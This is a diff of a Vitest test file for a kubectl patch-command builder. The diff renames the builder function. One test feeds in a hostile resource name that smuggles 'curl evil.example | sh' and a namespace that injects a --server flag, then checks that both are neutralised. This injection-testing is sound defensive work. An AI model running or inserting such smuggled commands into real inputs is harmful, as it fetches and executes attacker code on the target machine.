@@ -2,7 +2,7 @@ import { expect, test } from 'vitest'
 import { STEPS } from '@/components/outlook/testdata/answers'
 import type { ShootAnswer } from '@/lib/contract/clusters'
 import type { DeadEndBody, ForecastStepBody } from '@/lib/contract/steps'
-import { obstacles, patchCommand } from './side'
+import { adviceCommand, obstacles } from './side'
 
 const shoot = { namespace: 'garden-payments', name: 'checkout-prod' }
 const advice = { kind: 'do' as const, title: '', text: '' }
@@ -18,12 +18,12 @@ test.each([
   ],
   [{ patch: null, patchType: null }, null],
 ])('%o', (patch, command) => {
-  expect(patchCommand({ ...advice, ...patch }, shoot)).toBe(command)
+  expect(adviceCommand({ ...advice, ...patch }, shoot)).toBe(command)
 })
 
 test('a name that a shell would run is one word of the command', () => {
   const hostile = { namespace: '--server=https://evil.example', name: 'a; curl evil.example | sh\n' }
-  expect(patchCommand({ ...advice, patch: '{}', patchType: 'merge' }, hostile)).toBe(
+  expect(adviceCommand({ ...advice, patch: '{}', patchType: 'merge' }, hostile)).toBe(
     `kubectl -n server=https://evil.example patch shoot 'a; curl evil.example | sh' --type merge -p '{}'`,
   )
 })
